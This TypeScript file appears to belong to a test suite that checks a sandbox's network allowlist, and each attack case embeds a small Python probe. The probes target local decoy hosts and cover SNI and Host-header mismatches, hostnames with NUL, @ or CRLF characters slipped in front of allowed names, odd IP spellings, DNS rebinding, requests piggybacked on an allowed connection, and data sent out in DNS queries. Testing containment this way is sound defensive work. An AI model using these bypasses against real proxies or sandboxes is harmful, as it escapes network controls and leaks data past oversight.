import { changingNames } from "../decoys/changing-names.js";
import type { Endpoint, NamedEndpoint } from "../decoys/place.js";
import { entryOf } from "../decoys/place.js";
import { proxyProgram } from "../programs/proxy-program.js";
import type { Stage } from "./attack.js";
import { nearAttack } from "./near.js";
import { programAttack } from "./program-attack.js";

/** The first flight of a TLS client that requests `name`, with the nonce in place of its session id. */
const clientHello = String.raw`
def client_hello(name):
    def sized(size, data):
        return len(data).to_bytes(size, "big") + data
    server_name = struct.pack(">H", 0) + sized(2, sized(2, b"\0" + sized(2, name)))
    # An extension of no meaning carries the nonce: servers ignore what they don't know.
    marker = struct.pack(">H", 0xFAFA) + sized(2, P["nonce"].encode())
    versions = struct.pack(">H", 43) + sized(2, b"\x02\x03\x04")
    body = b"\x03\x03" + os.urandom(32) + sized(1, b"") + sized(2, b"\x13\x01") + sized(1, b"\0")
    body += sized(2, server_name + versions + marker)
    handshake = b"\x01" + sized(3, body)
    return b"\x16\x03\x01" + sized(2, handshake)

def tunnel(proxy, name):
    with dial(proxy) as client:
        target = b"%s:%d" % (P["name"].encode(), P["listed"])
        client.send(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target))
        answer = client.recv(4096)
        if b" 200" not in answer.split(b"\r\n")[0]:
            return None
        client.send(client_hello(name))
        return b"ambit-listed" in everything(client) and "the server got a hello for " + name.decode()
`;

const tlsAttacks = [
  programAttack({
    id: "network.allow-host/server-name",
    stoppedBy: ["server name check"],
    title: "open a tunnel to a listed host and request another one inside it (SNI)",
    parameters: ({ decoys, spec }) =>
      canReachListed(spec.required)
        ? { name: decoys.place.listedName, listed: decoys.listed.port }
        : unreachable,
    program: `${proxyProgram}${clientHello}
for proxy in proxies():
    attempt("other name", lambda: tunnel(proxy, b"unlisted.ambit.test"))
say("BLOCKED", "no proxy was found") if not proxies() else None`,
    aftermath: async ({ decoys }, nonce) =>
      decoys.listedReceived().includes(nonce)
        ? "the listed server got a request for another name"
        : undefined,
  }),
] as const;

const unreachable = "the listed server is on loopback, which this backend can't list by address";

function canReachListed(required: readonly string[]): boolean {
  return required.includes("network.allow-cidr");
}

/**
 * The boundary lists a name (`localhost` on the loopback) and, if ranges can be listed, the address and port of one server: so the name
 * is listed for every port, but its address only for one.
 */
export const networkAllowHost = [
  nearAttack("network.allow-host"),
  programAttack({
    id: "network.allow-host/literal-address",
    title: "reach an unlisted address directly, through HTTP and through SOCKS",
    parameters: ({ decoys }) => decoys.tcp,
    program: `${proxyProgram}
attempt_all([P["host"].encode()], P["port"])`,
  }),
  programAttack({
    id: "network.allow-host/name-to-loopback",
    title: "reach an unlisted port of the host by a listed name, as rebinding would",
    parameters: ({ decoys }) => ({ name: decoys.place.listedName, port: decoys.tcp.port }),
    program: `${proxyProgram}
name = P["name"]
attempt_all([one.encode() for one in (name, name.upper(), name + ".", name.capitalize() + ".")], P["port"])`,
  }),
  programAttack({
    id: "network.allow-host/unlisted-name",
    title: "reach a server by a name that isn't listed",
    parameters: ({ decoys }) => decoys.unlisted ?? "no second name for the loopback in /etc/hosts",
    program: `${proxyProgram}
attempt_all([P["host"].encode(), P["host"].upper().encode()], P["port"])`,
  }),
  programAttack({
    id: "network.allow-host/odd-spellings",
    title: "reach an address spelled in hexadecimal, octal, as one number, short or mapped",
    parameters: ({ decoys }) => decoys.tcp,
    program: `${proxyProgram}
attempt_all(spellings(P["host"]), P["port"])`,
  }),
  programAttack({
    id: "network.allow-host/name-behind-a-mark",
    title: "hide an unlisted name in front of a listed one with NUL, @, #, ?, /, % or a line break",
    // Its address is listed, so only the name can stop it, as for any server on the public internet.
    inAnother: ({ decoys, spec }) => ({
      network: {
        allowlist: [
          "*.ambit-listed.test",
          ...(spec.required.includes("network.allow-cidr")
            ? [entryOf(addressOf(decoys.unlisted ?? decoys.tcp))]
            : []),
        ],
      },
    }),
    parameters: ({ decoys }) => decoys.unlisted ?? "no second name for the loopback in /etc/hosts",
    program: `${proxyProgram}
name = P["host"].encode()
listed = b"a.ambit-listed.test"
marks = [b"\\0.", b"%00.", b"#.", b"?.", b"/.", b"\\\\.", b" .", b"\\r\\n.", b"%2f."]
hosts = [name + mark + listed for mark in marks]
hosts += [listed + mark[:-1] + name for mark in marks]
attempt_all(hosts + [name], P["port"])`,
  }),
  programAttack({
    id: "network.allow-host/host-header",
    stoppedBy: ["host header check", "allowlist"],
    title: "name a listed host in the Host header and an unlisted one in the request",
    parameters: besideListed,
    program: `${proxyProgram}
for proxy in proxies():
    name = P["name"].encode()
    named = b"%s:%d" % (name, P["listed"])
    attempt("host header", lambda: leaks(by_address_form(proxy, P["host"].encode(), P["port"], named)))
    attempt("other way round", lambda: leaks(by_address_form(proxy, name, P["port"], named)))
say("BLOCKED", "no proxy was found") if not proxies() else None`,
  }),
  programAttack({
    id: "network.allow-host/second-request",
    title: "send a second request for an unlisted host on an allowed connection",
    parameters: besideListed,
    program: `${proxyProgram}
def second(proxy):
    name, host = P["name"].encode(), P["host"].encode()
    lines = b"GET http://%s:%d/ HTTP/1.1\\r\\nHost: %s:%d\\r\\nX-Nonce: %s\\r\\n\\r\\n"
    with dial(proxy) as client:
        client.send(lines % (name, P["listed"], name, P["listed"], b"first"))
        everything(client)
        client.send(lines % (host, P["port"], host, P["port"], P["nonce"].encode()))
        return leaks(everything(client))
for proxy in proxies():
    attempt("second request", lambda: second(proxy))
say("BLOCKED", "no proxy was found") if not proxies() else None`,
  }),
  programAttack({
    id: "network.allow-host/datagram",
    stoppedBy: ["network namespace"],
    title: "send data out in a DNS query that bypasses the proxy",
    parameters: ({ decoys }) => ({ ...decoys.udp, name: decoys.place.listedName }),
    program: String.raw`
def query():
    name = b"".join(bytes([len(label)]) + label for label in (P["nonce"] + "." + P["name"]).encode().split(b"."))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(3)
        client.connect((P["host"], P["port"]))
        client.send(struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + name + b"\0" + struct.pack(">HH", 1, 1))
        return leaks(client.recv(4096))
attempt("query", query)`,
  }),
  programAttack({
    id: "network.allow-host/another-sessions-list",
    title: "reach a host that only another open session lists",
    parameters: async ({ decoys, openAnother, spec }) => {
      const name = decoys.place.listedName;
      const lists = spec.required.includes("network.allow-cidr") ? [entryOf(decoys.tcp)] : [];
      await openAnother({ network: { allowlist: [name, ...lists] } });
      return { ...decoys.tcp, name };
    },
    program: `${proxyProgram}
attempt_all([P["name"].encode(), P["host"].encode()], P["port"])`,
  }),
  programAttack({
    id: "network.allow-host/changing-address",
    title: "reach an unlisted address by a listed name that changes its address (rebinding)",
    needsNames: true,
    parameters: ({ decoys }) =>
      decoys.rebound === undefined
        ? "no address 127.0.0.2 on the loopback"
        : { port: decoys.rebound.port, names: changingNames },
    program: `${proxyProgram}
for _ in range(3):
    attempt_all([name.encode() for name in P["names"]], P["port"])`,
  }),
  ...tlsAttacks,
] as const;

function besideListed({ decoys: { tcp, listed, place } }: Stage) {
  return { ...tcp, listed: listed.port, name: place.listedName };
}

const addressOf = ({ host, port, address = host }: Endpoint & Partial<NamedEndpoint>): Endpoint => ({
  host: address,
  port,
});
